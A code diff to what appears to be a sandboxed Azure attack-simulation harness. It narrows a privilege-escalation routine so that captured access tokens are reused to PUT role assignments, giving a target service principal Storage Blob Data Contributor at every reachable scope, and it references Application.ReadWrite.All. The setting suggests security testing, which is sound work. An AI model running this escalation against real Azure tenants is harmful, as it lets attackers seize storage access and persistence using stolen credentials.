@@ -8,18 +8,14 @@ from collections.abc import Awaitable, Callable, Iterable
 from dataclasses import dataclass
 from datetime import datetime
 
+from fuzz.grounds import Ground
 from fuzz.loot import Loot, Proof
-from fuzz.seeds import Ground
 from fuzz.tools import Tools
 from fuzz.worlds import Json
 from sandbox.attacks.attacker import AUDIENCE
 
 # https://learn.microsoft.com/azure/role-based-access-control/built-in-roles
-_ROLES = {
-    "Storage Blob Data Contributor": "ba92f5b4-2d11-453d-a403-e96b0029c9fe",
-    "Key Vault Secrets User": "4633458b-17de-408a-b874-0445c86b69e6",
-    "Reader": "acdd72a7-3385-48ef-bd42-f606fba81ae7",
-}
+_ROLE = "ba92f5b4-2d11-453d-a403-e96b0029c9fe"  # Storage Blob Data Contributor
 _GRAPH_WRITE_ALL = "1bfefb4e-e0b5-418b-a88f-73c46d2cc8e9"  # Application.ReadWrite.All
 
 
@@ -58,7 +54,7 @@ async def _first(
 ) -> Json | None:
     """The first answer that is no refusal, of any of these calls with any token; its body, or an empty one."""
     for method, url, body in calls:
-        for token in scene.loot.live(scene.now, audience):
+        for token in scene.loot.different(scene.now, audience):
             answer = await scene.tools.send(method, url, token, json=body)
             if answer is not None and answer.is_success:
                 found: Json = answer.json() if answer.content else {}
@@ -121,16 +117,14 @@ async def role(scene: Scene, target: Target) -> list[Proof] | None:
     """A role for the principal, at the widest scope that anything he holds lets him."""
     calls: list[tuple[str, str, Json | None]] = []
     for scope in scene.scopes:
-        for guid in _ROLES.values():
-            definition = f"/providers/Microsoft.Authorization/roleDefinitions/{guid}"
-            assignment = f"{scope}/providers/Microsoft.Authorization/roleAssignments/{uuid.uuid4()}"
-            properties = {
-                "roleDefinitionId": definition,
-                "principalId": target.object_id,
-                "principalType": "ServicePrincipal",
-            }
-            url = f"{scene.ground.endpoints['arm']}{assignment}?api-version=2022-04-01"
-            calls.append(("PUT", url, {"properties": properties}))
+        assignment = f"{scope}/providers/Microsoft.Authorization/roleAssignments/{uuid.uuid4()}"
+        properties = {
+            "roleDefinitionId": f"/providers/Microsoft.Authorization/roleDefinitions/{_ROLE}",
+            "principalId": target.object_id,
+            "principalType": "ServicePrincipal",
+        }
+        url = f"{scene.ground.endpoints['arm']}{assignment}?api-version=2022-04-01"
+        calls.append(("PUT", url, {"properties": properties}))
     return None if await _first(scene, "arm", calls) is None else []
 
 
